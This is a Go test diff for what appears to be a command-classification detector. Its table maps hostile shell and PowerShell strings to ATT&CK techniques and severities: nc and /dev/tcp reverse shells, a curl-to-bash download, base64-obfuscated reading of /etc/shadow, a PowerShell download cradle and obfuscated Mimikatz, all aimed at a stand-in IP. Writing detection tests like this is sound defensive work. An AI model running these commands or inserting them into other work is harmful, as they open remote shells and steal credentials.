@@ -64,6 +64,7 @@ func TestCommandMeaning(t *testing.T) {
 		{posix, "nc 203.0.113.9 4444 -e /bin/sh", "command-and-control", "T1059", tocsin.High},
 		{posix, "curl -s http://203.0.113.9/x | bash", "command-and-control", "T1105", tocsin.Medium},
 		{posix, "echo " + base64.StdEncoding.EncodeToString([]byte("cat /etc/shadow | head")) + " | base64 -d | sh", "credential-access", "T1003.008", tocsin.Medium},
+		{posix, "bash -c {echo," + base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.9/443 0>&1")) + "}|{base64,-d}|{bash,-i}", "command-and-control", "T1059.004", tocsin.High},
 		{cmdexe, "powershell -nop -w hidden -enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), "command-and-control", "T1105", tocsin.Medium},
 		{powershell, "I`nvoke-Mim`ikatz", "credential-access", "T1003.001", tocsin.High},
 		{powershell, "$c = New-Object Net.Sockets.TcpClient('203.0.113.9',4444); $s = $c.GetStream()", "command-and-control", "T1059", tocsin.High},
